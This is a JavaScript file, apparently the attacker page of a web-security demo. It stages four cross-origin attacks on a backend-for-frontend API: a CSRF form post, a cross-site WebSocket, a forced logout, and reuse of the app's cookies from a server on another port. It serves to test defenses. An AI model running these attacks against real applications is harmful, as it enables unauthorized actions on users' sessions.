// What a page of another origin can try without the application's help. Which of it: `?attack=`.
'use strict';

const { app } = document.body.dataset;
const say = (text) => { document.getElementById('attempt').textContent = text; };

const attacks = {
  // What needs no script at all: browsers post forms anywhere, cookies included.
  form() {
    say('Posting a form to the API …');
    document.getElementById('form').submit();
  },
  // Browsers open WebSockets to anywhere too, without a preflight.
  socket() {
    say('Opening a WebSocket to the API …');
    const socket = new WebSocket(`${app.replace('http', 'ws')}/api/echo/ws`);
    socket.addEventListener('open', () => say('The WebSocket is open. The attack has succeeded.'));
    socket.addEventListener('close', () => say('The WebSocket did not open. The browser tells this page nothing more.'));
  },
  // A link, clicked or not: signing somebody out is a nuisance as well.
  logout() {
    say('Signing you out …');
    location.assign(`${app}/bff/logout?sid=a-guess`);
  },
  // Cookies know no ports: this page's server gets those of the application, and calls its API by itself.
  async copy() {
    say('Copying the cookies, and calling the API with them …');
    const { ok } = await fetch('/elsewhere/copy');
    say(ok ? 'This page’s server has called the API with your cookies.' : 'The API could not be called.');
  },
};

attacks[new URLSearchParams(location.search).get('attack')]?.();
